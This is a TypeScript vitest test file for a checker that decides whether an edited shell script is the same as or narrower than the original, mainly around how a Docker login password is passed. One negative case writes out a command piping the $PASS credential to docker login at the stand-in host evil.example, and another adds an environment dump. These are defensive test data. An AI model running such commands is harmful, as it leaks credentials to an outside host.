import { expect, test } from "vitest";
import { isSameOrNarrowerScript } from "./same-script.ts";

test.each([
  ["nothing changed", "make", "make", true],
  ["a variable is quoted", "notify $TITLE now", 'notify "$TITLE" now', true],
  ["a quote is taken away", 'notify "$TITLE" now', "notify $TITLE now", false],
  ["the environment is no longer printed", "env\nmake", "make", true],
  ["the environment is printed now", "make", "make\nenv", false],
  [
    "a password leaves the arguments",
    "docker login -u me  -p $PASS quay.io && make",
    "printf '%s' \"$PASS\" | docker login -u me quay.io --password-stdin && make",
    true,
  ],
  [
    "a password comes back into the arguments",
    "printf '%s' \"$PASS\" | docker login -u me --password-stdin",
    'docker login -u me -p "$PASS"',
    false,
  ],
  [
    "another password is sent",
    "docker login -u me -p $PASS",
    "printf '%s' \"$OTHER\" | docker login -u me --password-stdin",
    false,
  ],
  [
    "the password goes to another registry",
    "docker login -p $PASS quay.io",
    "printf '%s' \"$PASS\" | docker login evil.example --password-stdin",
    false,
  ],
  ["a command is added", "make", "make\nmake push", false],
  ["a command is gone", "test\nmake", "make", false],
  ["blanks inside a text change", 'echo "a  b"', 'echo "a b"', false],
])("%s", (_, before, after, answer) => {
  expect(isSameOrNarrowerScript(before, after)).toBe(answer);
});
